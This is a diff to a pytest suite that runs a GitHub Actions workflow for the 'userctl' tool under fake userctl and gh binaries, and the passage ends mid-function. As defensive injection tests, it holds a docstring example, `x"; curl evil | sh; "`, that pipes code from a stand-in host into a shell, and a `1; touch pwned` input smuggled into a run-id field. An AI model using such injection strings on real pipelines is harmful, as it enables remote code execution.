@@ -41,12 +41,14 @@ def _userctl_commands() -> list[list[str]]:
             if line.startswith("userctl "):
                 words = shlex.split(line)
                 commands.append(words[1 : words.index(">")] if ">" in words else words[1:])
+            elif line.startswith("userctl"):
+                raise AssertionError(f"a userctl line this test cannot read: {line}")
     return commands
 
 
 def test_every_userctl_command_of_the_workflow_parses() -> None:
     commands = _userctl_commands()
-    assert [c[0] for c in commands] == ["validate", "plan", "apply"]
+    assert [c[0] for c in commands] == ["validate", "plan", "show", "plan", "show", "apply", "plan"]
     for args in commands:
         with click.Context(cli) as ctx:
             command = cli.get_command(ctx, args[0])
@@ -55,58 +57,111 @@ def test_every_userctl_command_of_the_workflow_parses() -> None:
 
 
 def test_the_workflow_plans_for_review_and_applies_the_reviewed_plan() -> None:
-    plan, apply = _userctl_commands()[1:]
+    validate, plan, _show, _replan, _show2, apply, _drift = _userctl_commands()
+    assert validate == ["validate", "-f", "users.yaml", "--format", "github"]
     assert {"--format", "markdown", "--out", "plan.json", "--detailed-exitcode"} <= set(plan)
-    assert apply[:4] == ["apply", "plan.json", "-f", "users.yaml"] and "--yes" in apply and "--operator" in apply
+    assert apply[:4] == ["apply", "plan.json", "-f", "users.yaml"] and "--yes" in apply
+    assert _job("apply")["env"]["USERCTL_OPERATOR"] == "${{ vars.USERCTL_OPERATOR }}"
     text = WORKFLOW.read_text(encoding="utf-8")
-    assert "secrets.USERCTL_DATABASE_URL" in text and "vars.USERCTL_OPERATOR" in text
-    assert """if: ${{ !contains(fromJSON('["0", "2", "3"]'), steps.plan.outputs.exitcode) }}""" in text
+    assert "secrets.USERCTL_DATABASE_URL" in text
     assert "actions/upload-artifact" in text and "gh run download" in text
 
 
-# --- The pull request job, run as GitHub runs it ----------------------------------------------
+# --- GitHub's expressions, as far as this workflow uses them -----------------------------------
 
-def _job(name: str) -> dict[str, Any]:
-    job = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]
-    assert isinstance(job, dict)
-    return job
+_TOKEN = re.compile(r"""\s*(contains\(fromJSON\('(\[[^']*\])'\),\s*([\w.]+)\)|'[^']*'|&&|\|\||==|!=|!|\(|\)|[\w.-]+)""")
 
 
-def _step(job: dict[str, Any], step_id: str) -> dict[str, Any]:
-    (step,) = [s for s in job["steps"] if s.get("id") == step_id]
-    return dict(step)
-
-
-_CONTAINS = re.compile(r"""contains\(fromJSON\('(\[[^']*\])'\), steps\.(\w+)\.outputs\.(\w+)\)""")
-
-
-def _condition(expression: str, outputs: dict[str, dict[str, str]]) -> bool:
-    """The few GitHub expressions the workflow's steps use: `contains(fromJSON('[...]'),
-    steps.ID.outputs.NAME)`, negated with `!`, optionally inside `${{ }}`. Anything else fails
-    the test, rather than being guessed at."""
+def _evaluate(expression: str, context: dict[str, str]) -> bool:
+    """`expression` of an `if:` (with or without `${{ }}`), over `context` (dotted names such as
+    `steps.plan.outputs.exitcode`, `github.event_name`, `inputs.plan_run_id`; a missing one is
+    ''): `contains(fromJSON('[...]'), NAME)`, `==`, `!=`, `!`, `&&`, `||` and parentheses. Any
+    other syntax fails the test rather than being guessed at."""
     text = expression.strip()
     if text.startswith("${{") and text.endswith("}}"):
-        text = text[3:-2].strip()
-    negated = text.startswith("!")
-    match = _CONTAINS.fullmatch(text.removeprefix("!").strip())
-    assert match is not None, f"expression not understood by this test: {expression}"
-    values, step_id, name = json.loads(match.group(1)), match.group(2), match.group(3)
-    result = outputs.get(step_id, {}).get(name, "") in values
-    return not result if negated else result
+        text = text[3:-2]
+    tokens: list[re.Match[str]] = []
+    pos = 0
+    while text[pos:].strip():
+        match = _TOKEN.match(text, pos)
+        assert match is not None, f"expression not understood by this test: {expression}"
+        tokens.append(match)
+        pos = match.end()
+    at = 0
+
+    def peek() -> str | None:
+        return tokens[at].group(1) if at < len(tokens) else None
+
+    def take() -> re.Match[str]:
+        nonlocal at
+        at += 1
+        return tokens[at - 1]
+
+    def value() -> Any:
+        token = take()
+        word = token.group(1)
+        if word == "(":
+            result = disjunction()
+            assert take().group(1) == ")", expression
+            return result
+        if word == "!":
+            return not truthy(value())
+        if token.group(2) is not None:
+            return context.get(token.group(3), "") in json.loads(token.group(2))
+        if word.startswith("'"):
+            return word[1:-1]
+        assert re.fullmatch(r"(steps|github|inputs|secrets|vars)\.[\w.-]+", word), expression
+        return context.get(word, "")
+
+    def comparison() -> Any:
+        left = value()
+        if peek() in ("==", "!="):
+            operator, right = take().group(1), value()
+            return (left == right) if operator == "==" else (left != right)
+        return left
+
+    def truthy(v: Any) -> bool:
+        return bool(v)
+
+    def conjunction() -> bool:
+        result = truthy(comparison())
+        while peek() == "&&":
+            take()
+            result = truthy(comparison()) and result
+        return result
+
+    def disjunction() -> bool:
+        result = conjunction()
+        while peek() == "||":
+            take()
+            result = conjunction() or result
+        return result
+
+    outcome = disjunction()
+    assert at == len(tokens), f"expression not understood by this test: {expression}"
+    return outcome
 
 
-def _substitute(script: str, outputs: dict[str, dict[str, str]]) -> str:
-    def output(match: re.Match[str]) -> str:
-        return outputs[match.group(1)][match.group(2)]
+_REFERENCE = re.compile(r"\$\{\{\s*([\w.-]+)\s*\}\}")
 
-    script = re.sub(r"\$\{\{\s*steps\.(\w+)\.outputs\.(\w+)\s*\}\}", output, script)
-    assert "${{" not in script, script
-    return script
 
+def _expand(value: str, context: dict[str, str]) -> str:
+    expanded = _REFERENCE.sub(lambda m: context.get(m.group(1), ""), value)
+    assert "${{" not in expanded, value
+    return expanded
+
+
+# --- A job, run as GitHub runs it ------------------------------------------------------------
 
 FAKE_USERCTL = """#!/bin/sh
 # userctl as the pipeline sees it: markdown on stdout, the plan saved with --out, an exit code.
-printf '%s\\n' "$@" > "$FAKE_ARGS"
+printf '%s\\037' "$@" >> "$FAKE_LOG/userctl"  # one call a line, its arguments split by US
+echo >> "$FAKE_LOG/userctl"
+case "$1" in
+  validate) exit "${FAKE_VALIDATE_CODE:-0}";;
+  show) echo "## the full plan, every change"; exit 0;;
+  apply) exit "${FAKE_APPLY_CODE:-0}";;
+esac
 while [ $# -gt 0 ]; do
   if [ "$1" = "--out" ]; then printf '{"format": "userctl-plan"}\\n' > "$2"; fi
   shift
@@ -116,58 +171,101 @@ echo "plan diagnostics" >&2
 exit "$FAKE_CODE"
 """
 
+# gh as the jobs use it: `run list`/`run view` answer from $FAKE_GH_DATA/<n>.json (the n-th such
+# call, or the last file), filtered through the real jq as gh's --jq would; `run download`
+# writes plan.json; `api` prints $FAKE_GH_API.
+FAKE_GH = """#!/bin/sh
+printf '%s\\n' "$*" >> "$FAKE_LOG/gh"
+case "$1 $2" in
+  "run list"|"run view")
+    n=$(cat "$FAKE_LOG/gh_count" 2>/dev/null || echo 0); n=$((n + 1)); echo "$n" > "$FAKE_LOG/gh_count"
+    file="$FAKE_GH_DATA/$n.json"; [ -f "$file" ] || file=$(ls "$FAKE_GH_DATA"/*.json | sort -V | tail -1)
+    filter=""
+    while [ $# -gt 0 ]; do if [ "$1" = "--jq" ]; then filter="$2"; fi; shift; done
+    jq -r "$filter" < "$file";;
+  "run download") printf '{"downloaded": true}\\n' > plan.json;;
+  "api "*) echo "$FAKE_GH_API";;
+esac
+"""
+
 
 @dataclass
 class JobRun:
-    plan_step_exit: int
+    ran: list[str]  # the names of the steps that ran, in order (unnamed `run` steps by their script)
     outputs: dict[str, dict[str, str]]
-    ran: list[str]  # the names of the steps that ran after the plan, in order
     succeeded: bool
     workdir: Path
+    logs: dict[str, str]  # each step's stdout and stderr
+
+    def calls(self, program: str) -> list[str]:
+        path = self.workdir.parent / "log" / program
+        return path.read_text(encoding="utf-8").splitlines() if path.exists() else []
+
+    def userctl_calls(self) -> list[list[str]]:
+        return [line.split("\x1f")[:-1] for line in self.calls("userctl")]
 
 
-def _run_plan_job(tmp_path: Path, code: int) -> JobRun:
-    """The plan step's script under `bash --noprofile --norc -eo pipefail` (GitHub's shell for
-    `run`), a fake `userctl` first on PATH; then each later step whose `if:` holds, `run` steps
-    executed the same way, `uses` steps only recorded (their inputs are checked elsewhere)."""
-    bin_dir, workdir = tmp_path / f"bin{code}", tmp_path / f"work{code}"
-    bin_dir.mkdir()
-    workdir.mkdir()
-    fake = bin_dir / "userctl"
-    fake.write_text(FAKE_USERCTL, encoding="utf-8")
-    fake.chmod(0o755)
-    job = _job("plan")
-    steps = job["steps"]
-    index = next(i for i, s in enumerate(steps) if s.get("id") == "plan")
-
-    def bash(script: str, name: str) -> int:
-        output = workdir / f"github_output_{name}"
-        output.touch()
-        path = workdir / f"step_{name}.sh"
-        path.write_text(script, encoding="utf-8")
-        env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "GITHUB_OUTPUT": str(output),
-               "FAKE_CODE": str(code), "FAKE_ARGS": str(workdir / "args")}
-        done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(path)], cwd=workdir, env=env,
-                              capture_output=True, text=True, timeout=60, check=False)
-        return done.returncode
-
-    plan_exit = bash(steps[index]["run"], "plan")
-    recorded = dict(line.split("=", 1) for line in (workdir / "github_output_plan").read_text().splitlines())
-    outputs = {"plan": recorded}
+def _run_job(tmp_path: Path, name: str, *, event: str, secrets_: dict[str, str] | None = None,
+             inputs: dict[str, str] | None = None, env: dict[str, str] | None = None,
+             gh_data: list[Any] | None = None) -> JobRun:
+    """Job `name` as GitHub runs it for `event`: each step whose `if:` holds, `run` steps under
+    `bash --noprofile --norc -eo pipefail` (GitHub's shell) with the workflow's, job's and step's
+    `env:` expanded, fakes of userctl and gh first on PATH; `uses` steps and the install only
+    recorded (checked elsewhere). A step without a status function in its `if:` runs only while
+    the job is succeeding; `continue-on-error` keeps it from failing the job."""
+    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
+    job = workflow["jobs"][name]
+    root = tmp_path / name
+    bin_dir, workdir, log, data = root / "bin", root / "work", root / "log", root / "gh"
+    for d in (bin_dir, workdir, log, data):
+        d.mkdir(parents=True)
+    for program, script in (("userctl", FAKE_USERCTL), ("gh", FAKE_GH)):
+        (bin_dir / program).write_text(script, encoding="utf-8")
+        (bin_dir / program).chmod(0o755)
+    for i, answer in enumerate(gh_data or [[]], start=1):
+        (data / f"{i}.json").write_text(json.dumps(answer), encoding="utf-8")
+    context = {"github.event_name": event, "github.run_id": "7", "github.workflow": "userctl",
+               "github.repository": "acme/people", "github.token": "t0ken", "vars.USERCTL_OPERATOR": "ops@acme.co"}
+    context |= {f"secrets.{k}": v for k, v in (secrets_ or {}).items()}
+    context |= {f"inputs.{k}": v for k, v in (inputs or {}).items()}
+    summary = workdir / "summary.md"
+    summary.touch()
+    outputs: dict[str, dict[str, str]] = {}
     ran: list[str] = []
-    succeeded = plan_exit == 0
-    for i, step in enumerate(steps[index + 1 :]):
-        # A step with no status function in its `if:` runs only while the job is succeeding.
-        if not succeeded or ("if" in step and not _condition(str(step["if"]), outputs)):
+    logs: dict[str, str] = {}
+    succeeded = True
+    for i, step in enumerate(job["steps"]):
+        step_context = context | {f"steps.{sid}.outputs.{k}": v for sid, out in outputs.items() for k, v in out.items()}
+        if not succeeded or ("if" in step and not _evaluate(str(step["if"]), step_context)):
             continue
-        ran.append(step["name"])
-        if "run" in step and bash(_substitute(step["run"], outputs), str(i)) != 0:
+        label = step.get("name") or step.get("run") or step["uses"]
+        ran.append(label)
+        if "run" not in step or step["run"].startswith("pip install"):  # installing is checked elsewhere
+            continue
+        assert "${{" not in step["run"], f"{label}: a value pasted into the script"
+        output = root / f"output_{i}"
+        output.touch()
+        script = root / f"step_{i}.sh"
+        script.write_text(step["run"], encoding="utf-8")
+        step_env = {k: _expand(str(v), step_context) for scope in (workflow.get("env", {}), job.get("env", {}),
+                                                                   step.get("env", {})) for k, v in scope.items()}
+        full_env = {**os.environ, **step_env, **(env or {}), "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
+                    "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_SHA": "c0ffee",
+                    "FAKE_LOG": str(log), "FAKE_GH_DATA": str(data)}
+        done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=workdir,
+                              env=full_env, capture_output=True, text=True, timeout=60, check=False)
+        logs[label] = done.stdout + done.stderr
+        if step.get("id"):
+            outputs[step["id"]] = dict(line.split("=", 1) for line in output.read_text().splitlines())
+        if done.returncode != 0 and not step.get("continue-on-error"):
             succeeded = False
-    return JobRun(plan_exit, outputs, ran, succeeded, workdir)
+    return JobRun(ran, outputs, succeeded, workdir, logs)
 
 
 COMMENT = "Comment the plan on the pull request"
 UPLOAD = "Keep the plan for approval and apply"
+SUMMARY = "Write the full plan to the job summary"
+PLAN_SECRETS = {"USERCTL_PLAN_DATABASE_URL": "postgresql+psycopg://userctl_plan@db/userctl"}
 
 
 @pytest.mark.parametrize(
@@ -177,66 +275,298 @@ UPLOAD = "Keep the plan for approval and apply"
 )
 def test_the_plan_job_for_each_exit_code(tmp_path: Path, code: int, job_succeeds: bool, commented: bool,
                                          uploaded: bool) -> None:
-    run = _run_plan_job(tmp_path, code)
-    # The step itself always finishes (so the comment can follow) and hands the code on.
-    assert run.plan_step_exit == 0
+    run = _run_job(tmp_path, "plan", event="pull_request", secrets_=PLAN_SECRETS, env={"FAKE_CODE": str(code)})
     assert run.outputs["plan"] == {"exitcode": str(code)}
-    assert (run.workdir / "args").read_text().split() == [
-        "plan", "-f", "users.yaml", "--format", "markdown", "--out", "plan.json", "--detailed-exitcode"]
+    validate, plan, *rest = run.userctl_calls()
+    assert validate == ["validate", "-f", "users.yaml", "--format", "github"]
+    assert plan == ["plan", "-f", "users.yaml", "--format", "markdown", "--out", "plan.json", "--detailed-exitcode"]
     # stdout (the markdown) is what is saved as plan.md; diagnostics stay in the log.
     assert (run.workdir / "plan.md").read_text() == f"## userctl plan (exit {code})\n"
     assert (run.workdir / "plan.json").exists()
     assert (COMMENT in run.ran) is commented
     assert (UPLOAD in run.ran) is uploaded
+    # Whenever there is a plan, the whole of it goes to the job summary (the comment may be cut).
+    assert (SUMMARY in run.ran) is commented
+    if commented:
+        assert rest == [["show", "plan.json", "--format", "markdown", "--max-chars", "1000000"]]
+        assert (run.workdir / "summary.md").read_text() == "## the full plan, every change\n"
     # 1 and 4 fail the job, after the comment when there is one.
     assert run.succeeded is job_succeeds
     if not job_succeeds:
         assert run.ran[-1] == "Fail on an error or a blocked plan"
+        assert f"userctl plan exited {code}" in run.logs[run.ran[-1]]
+
+
+def test_a_pull_request_without_the_secret_says_why_it_has_no_plan(tmp_path: Path) -> None:
+    """A fork gets no secrets: the file is still validated, userctl plan is never run against
+    an empty URL, and the pull request is told why, in a notice, the summary and a comment."""
+    run = _run_job(tmp_path, "plan", event="pull_request", secrets_={}, env={"FAKE_CODE": "2"})
+    assert run.succeeded
+    assert [c[0] for c in run.userctl_calls()] == ["validate"]
+    assert "Plan" not in run.ran and COMMENT not in run.ran and UPLOAD not in run.ran
+    assert "Comment the skipped plan on the pull request" in run.ran
+    notice = run.logs["Say why the plan was skipped"]
+    assert notice.startswith("::notice title=userctl plan skipped::") and "fork" in notice
+    assert "userctl plan skipped" in (run.workdir / "summary.md").read_text()
+    assert "<!-- userctl-plan -->" in _step(_job("plan"), "Comment the skipped plan on the pull request")["with"]["script"]
+    # A fork's token cannot comment: that step may fail without failing the job.
+    assert _step(_job("plan"), "Comment the skipped plan on the pull request")["continue-on-error"] is True
+
+
+def test_validate_problems_fail_the_job_before_anything_is_planned(tmp_path: Path) -> None:
+    run = _run_job(tmp_path, "plan", event="pull_request", secrets_=PLAN_SECRETS,
+                   env={"FAKE_CODE": "2", "FAKE_VALIDATE_CODE": "1"})
+    assert not run.succeeded
+    assert [c[0] for c in run.userctl_calls()] == ["validate"]
+
+
+def _step(job: dict[str, Any], name: str) -> dict[str, Any]:
+    (step,) = [s for s in job["steps"] if s.get("name") == name or s.get("id") == name]
+    return dict(step)
+
+
+def _job(name: str) -> dict[str, Any]:
+    job = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]
+    assert isinstance(job, dict)
+    return job
 
 
 def test_the_comment_posts_the_markdown_and_the_artifact_is_the_saved_plan() -> None:
-    steps = {s.get("name"): s for s in _job("plan")["steps"]}
-    comment, upload = steps[COMMENT], steps[UPLOAD]
+    comment, upload = _step(_job("plan"), COMMENT), _step(_job("plan"), UPLOAD)
     for exit_code in ("2", "3"):
-        assert _condition(comment["if"], {"plan": {"exitcode": exit_code}})
-        assert _condition(upload["if"], {"plan": {"exitcode": exit_code}})
-    assert comment["uses"].startswith("actions/github-script@")
+        assert _evaluate(comment["if"], {"steps.plan.outputs.exitcode": exit_code})
+        assert _evaluate(upload["if"], {"steps.plan.outputs.exitcode": exit_code})
     assert 'fs.readFileSync("plan.md", "utf8")' in comment["with"]["script"]
-    assert upload["uses"].startswith("actions/upload-artifact@")
     assert upload["with"]["path"] == "plan.json" and upload["with"]["name"] == "userctl-plan"
 
 
-def test_the_apply_job_applies_the_downloaded_plan_only_if_the_merged_file_plans_to_it() -> None:
-    steps = _job("apply")["steps"]
-    scripts = [s.get("run", "") for s in steps]
-    download = next(i for i, s in enumerate(scripts) if "gh run download" in s)
-    assert "--name userctl-plan" in scripts[download]
-    commands = [shlex.split(line.strip()) for s in scripts for line in s.splitlines() if line.strip().startswith("userctl ")]
-    assert len(commands) == 1
-    (apply,) = commands
+@pytest.mark.parametrize(
+    ("event", "inputs", "jobs"),
+    [("pull_request", {}, {"plan"}), ("push", {}, {"apply"}), ("schedule", {}, {"drift"}),
+     ("workflow_dispatch", {"plan_run_id": ""}, {"replan"}), ("workflow_dispatch", {"plan_run_id": "42"}, {"apply"})],
+)
+def test_each_event_runs_its_job(event: str, inputs: dict[str, str], jobs: set[str]) -> None:
+    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
+    context = {"github.event_name": event} | {f"inputs.{k}": v for k, v in inputs.items()}
+    assert {name for name, job in workflow["jobs"].items() if _evaluate(job["if"], context)} == jobs
+    triggers = workflow[True]  # PyYAML reads the key `on` as the boolean true
+    assert triggers["schedule"] and "plan_run_id" in triggers["workflow_dispatch"]["inputs"]
+
+
+# --- What every job must hold to ---------------------------------------------------------------
+
+def test_every_job_has_a_timeout() -> None:
+    for name, job in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"].items():
+        assert 0 < int(job["timeout-minutes"]) <= 60, name
+
+
+def test_every_action_is_pinned_to_a_commit() -> None:
+    uses = [line.strip() for line in WORKFLOW.read_text(encoding="utf-8").splitlines() if line.strip().startswith(("uses:", "- uses:"))]
+    assert len(uses) >= 10
+    for line in uses:
+        # owner/name@<40 hex digits>, and the tag it stands for in a comment for the reader
+        assert re.fullmatch(r"(- )?uses: [\w.-]+/[\w.-]+@[0-9a-f]{40}\s+# v\d+(\.\d+)*.*", line), line
+
+
+def test_no_value_is_pasted_into_a_script() -> None:
+    """Variables, inputs and step outputs reach `run:` scripts through `env:` only: pasted into
+    the script's text, a value such as `x"; curl evil | sh; "` would run as shell code."""
+    for name, job in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"].items():
+        for step in job["steps"]:
+            assert "${{" not in step.get("run", ""), (name, step.get("name"))
+    assert "vars.USERCTL_OPERATOR" in _job("apply")["env"]["USERCTL_OPERATOR"]
+
+
+# --- The apply job: in order, none dropped -------------------------------------------------------
+
+def test_no_concurrency_group_can_drop_a_waiting_apply() -> None:
+    """GitHub keeps one pending run per concurrency group and cancels the others: a group on
+    the apply job (or the workflow) would lose a merge's apply when three merges come quickly."""
+    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
+    assert "concurrency" not in workflow
+    assert "concurrency" not in workflow["jobs"]["apply"]
+    # The plan job may cancel its own older run: the newer push's plan replaces it.
+    assert "pull_request.number" in workflow["jobs"]["plan"]["concurrency"]["group"]
+
+
+def _push_run(run_id: int, status: str, event: str = "push") -> dict[str, Any]:
+    return {"databaseId": run_id, "status": status, "event": event}
+
+
+def test_an_apply_waits_for_the_applies_of_earlier_merges(tmp_path: Path) -> None:
+    # This run is 7. Run 5 (an earlier merge) is waiting for the environment, then running, then
+    # done; a later merge (9) and an earlier scheduled drift check (4) never hold this one up.
+    def runs(five: str) -> list[dict[str, Any]]:
+        return [_push_run(9, "queued"), _push_run(7, "in_progress"), _push_run(5, five), _push_run(4, "in_progress", "schedule")]
+
+    run = _run_job(tmp_path, "apply", event="push", secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
+                   gh_data=[runs("waiting"), runs("in_progress"), runs("completed")],
+                   env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123"})
+    assert run.succeeded, run.logs
+    waits = [c for c in run.calls("gh") if c.startswith("run list --workflow userctl --branch main")]
+    assert len(waits) == 3
+    assert run.logs["Wait for the applies of earlier merges"].count("waiting for 1 earlier userctl run(s)") == 2
+    assert run.ran.index("Wait for the applies of earlier merges") < run.ran.index("Apply")
+    assert run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]
+
+
+def test_the_apply_job_applies_the_downloaded_plan_only_if_the_merged_file_plans_to_it(tmp_path: Path) -> None:
+    run = _run_job(tmp_path, "apply", event="push", secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
+                   gh_data=[[], [{"databaseId": 31}]], env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123"})
+    assert run.succeeded, run.logs
+    assert "Download the re-plan named by hand" not in run.ran
+    gh = run.calls("gh")
+    assert any(c.startswith("run list --workflow userctl --event pull_request --commit abc123 --status success") for c in gh)
+    assert "run download 31 --name userctl-plan" in gh
     # The artifact came from the pull request's own job: it is applied only if the merged
-    # users.yaml plans to exactly it.
-    assert apply[1:5] == ["apply", "plan.json", "-f", "users.yaml"]
-    # The apply runs after the download, and no step of the job saves a new plan.
-    assert next(i for i, s in enumerate(scripts) if s.startswith("userctl apply")) > download
-    assert not any("userctl plan" in s for s in scripts)
+    # users.yaml plans to exactly it, and no step of the job saves a new plan.
+    assert run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]
+
+
+def test_a_refused_apply_says_how_to_re_plan(tmp_path: Path) -> None:
+    run = _run_job(tmp_path, "apply", event="push", secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
+                   gh_data=[[], [{"databaseId": 31}]], env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123", "FAKE_APPLY_CODE": "4"})
+    assert not run.succeeded
+    assert "::error title=userctl apply refused::" in run.logs["Apply"] and "re-plan" in run.logs["Apply"]
+
+
+@pytest.mark.parametrize(
+    ("run_id", "found", "applied", "message"),
+    [("42", {"event": "workflow_dispatch", "headBranch": "main", "headSha": "c0ffee", "conclusion": "success"}, True, ""),
+     ("42", {"event": "pull_request", "headBranch": "evil", "headSha": "c0ffee", "conclusion": "success"}, False,
+      "is not a successful re-plan of main at c0ffee"),
+     ("42", {"event": "workflow_dispatch", "headBranch": "main", "headSha": "0ld", "conclusion": "success"}, False,
+      "is not a successful re-plan"),
+     ("42", {"event": "workflow_dispatch", "headBranch": "main", "headSha": "c0ffee", "conclusion": "failure"}, False,
+      "is not a successful re-plan"),
+     ("1; touch pwned", {}, False, "plan_run_id must be a run id")],
+)
+def test_a_re_plan_is_applied_only_from_a_successful_re_plan_of_this_commit(
+        tmp_path: Path, run_id: str, found: dict[str, str], applied: bool, message: str) -> None:
+    run = _run_job(tmp_path, "apply", event="workflow_dispatch", inputs={"plan_run_id": run_id},
+                   secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"}, gh_data=[[], found], env={"POLL_SECONDS": "0"})
+    assert run.succeeded is applied, run.logs
+    assert "Download the plan reviewed on the pull request" not in run.ran
+    assert ("run download 42 --name userctl-plan" in run.calls("gh")) is applied
+    assert (run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]) is applied
+    assert message in run.logs["Download the re-plan named by hand"]
+    assert not (run.workdir / "pwned").exists()
+
+
+@pytest.mark.parametrize(("code", "uploaded", "succeeds"), [(0, False, True), (2, True, True), (3, True, True),
+                                                            (4, False, False), (1, False, False)])
+def test_the_re_plan_job(tmp_path: Path, code: int, uploaded: bool, succeeds: bool) -> None:
+    run = _run_job(tmp_path, "replan", event="workflow_dispatch", inputs={"plan_run_id": ""}, secrets_=PLAN_SECRETS,
+                   env={"FAKE_CODE": str(code)})
+    assert run.succeeded is succeeds
+    assert run.userctl_calls()[0][:6] == ["plan", "-f", "users.yaml", "--format", "markdown", "--out"]
+    assert (UPLOAD in run.ran) is uploaded
+    if code != 1:
+        assert "run this workflow with plan_run_id 7" in (run.workdir / "summary.md").read_text()
+
+
+# --- The daily drift check ------------------------------------------------------------------
+
+@pytest.mark.parametrize(("code", "issue_step", "succeeds"), [(0, True, True), (2, True, True), (3, True, True),
+                                                              (4, False, False), (1, False, False)])
+def test_the_drift_job(tmp_path: Path, code: int, issue_step: bool, succeeds: bool) -> None:
+    run = _run_job(tmp_path, "drift", event="schedule", secrets_=PLAN_SECRETS, env={"FAKE_CODE": str(code)})
+    assert run.succeeded is succeeds
+    (plan,) = run.userctl_calls()
+    assert plan == ["plan", "-f", "users.yaml", "--format", "markdown", "--detailed-exitcode"]
+    assert ("Open or update the drift issue" in run.ran) is issue_step
+    assert _job("drift")["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_PLAN_DATABASE_URL }}"
+    assert _job("drift")["permissions"] == {"contents": "read", "issues": "write"}
+
+
+GITHUB_SCRIPT_HOST = """
+// Runs a github-script step's script with a recording stand-in for its `github` client.
+const fs = require("fs");
+const [scriptPath, statePath] = process.argv.slice(2);
+const state = JSON.parse(fs.readFileSync(statePath, "utf8"));
+const calls = [];
+const record = (name) => async (args) => { calls.push([name, args]); return { data: {} }; };
+const github = {
+  paginate: async (fn, args) => { calls.push(["paginate", args]); return state.open; },
+  rest: { issues: { listForRepo: "listForRepo", listComments: "listComments", create: record("create"),
+                    update: record("update"), createComment: record("createComment"), updateComment: record("updateComment") } },
+};
+const context = { repo: { owner: "acme", repo: "people" }, issue: { number: 12 } };
+const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
+new AsyncFunction("github", "context", "require", "process", fs.readFileSync(scriptPath, "utf8"))(github, context, require, process)
+  .then(() => console.log(JSON.stringify(calls)));
+"""
+
+
+def _github_script(tmp_path: Path, script: str, open_issues: list[dict[str, Any]], env: dict[str, str]) -> list[Any]:
+    """The script of a github-script step, run by node with a recording `github`."""
+    import shutil
+
+    node = shutil.which("node")
+    if node is None:
+        if os.environ.get("CI", "").strip().lower() not in ("", "false", "0"):
+            pytest.fail("node is needed to run the workflow's github-script steps (CI is set)")
+        pytest.skip("node not installed: the workflow's github-script steps cannot be run")
+    (tmp_path / "host.js").write_text(GITHUB_SCRIPT_HOST, encoding="utf-8")
+    (tmp_path / "script.js").write_text(script, encoding="utf-8")
+    (tmp_path / "state.json").write_text(json.dumps({"open": open_issues}), encoding="utf-8")
+    done = subprocess.run([node, str(tmp_path / "host.js"), str(tmp_path / "script.js"), str(tmp_path / "state.json")],
+                          cwd=tmp_path, env={**os.environ, **env}, capture_output=True, text=True, timeout=60, check=True)
+    calls: list[Any] = json.loads(done.stdout.strip().splitlines()[-1])
+    return calls
+
+
+DRIFT_MARKER = "<!-- userctl-drift -->"
+
+
+def test_the_drift_issue_is_opened_once_updated_then_closed(tmp_path: Path) -> None:
+    script = _step(_job("drift"), "Open or update the drift issue")["with"]["script"]
+    (tmp_path / "plan.md").write_text("## 1 change\n", encoding="utf-8")
+    other = {"number": 3, "body": "someone else's issue with the userctl-drift label"}
+    # Drift, no issue yet: one is opened, labelled, holding the plan.
+    calls = _github_script(tmp_path, script, [other], {"PLAN_EXIT": "2"})
+    (create,) = [args for name, args in calls if name == "create"]
+    assert create["labels"] == ["userctl-drift"] and create["body"].startswith(DRIFT_MARKER)
+    assert "## 1 change" in create["body"]
+    assert not [c for c in calls if c[0] == "update"]
+    # Drift again: the same issue is updated, no second one.
+    mine = {"number": 8, "body": DRIFT_MARKER + "\nold plan"}
+    calls = _github_script(tmp_path, script, [other, mine], {"PLAN_EXIT": "3"})
+    assert [name for name, _ in calls if name != "paginate"] == ["update"]
+    assert calls[-1][1]["issue_number"] == 8 and "## 1 change" in calls[-1][1]["body"]
+    # No drift: the open issue is closed with a comment; with none open, nothing happens.
+    calls = _github_script(tmp_path, script, [other, mine], {"PLAN_EXIT": "0"})
+    assert [name for name, _ in calls if name != "paginate"] == ["createComment", "update"]
+    assert calls[-1][1] == {"owner": "acme", "repo": "people", "issue_number": 8, "state": "closed"}
+    assert [name for name, _ in _github_script(tmp_path, script, [other], {"PLAN_EXIT": "0"})] == ["paginate"]
+
+
+def test_the_plan_comment_is_posted_once_then_updated(tmp_path: Path) -> None:
+    script = _step(_job("plan"), COMMENT)["with"]["script"]
+    (tmp_path / "plan.md").write_text("## plan\n", encoding="utf-8")
+    (create,) = [args for name, args in _github_script(tmp_path, script, [{"id": 1, "body": "LGTM"}], {}) if name == "createComment"]
+    assert create["issue_number"] == 12 and create["body"] == "<!-- userctl-plan -->\n## plan\n"
+    calls = _github_script(tmp_path, script, [{"id": 1, "body": "LGTM"}, {"id": 5, "body": "<!-- userctl-plan -->\nold"}], {})
+    assert [(name, args.get("comment_id")) for name, args in calls if name != "paginate"] == [("updateComment", 5)]
 
 
 def test_userctl_is_installed_from_the_repository_not_pypi() -> None:
     pyproject = tomllib.loads((WORKFLOW.parent.parent / "pyproject.toml").read_text(encoding="utf-8"))
     assert "postgres" in pyproject["project"]["optional-dependencies"]
-    for name in ("plan", "apply"):
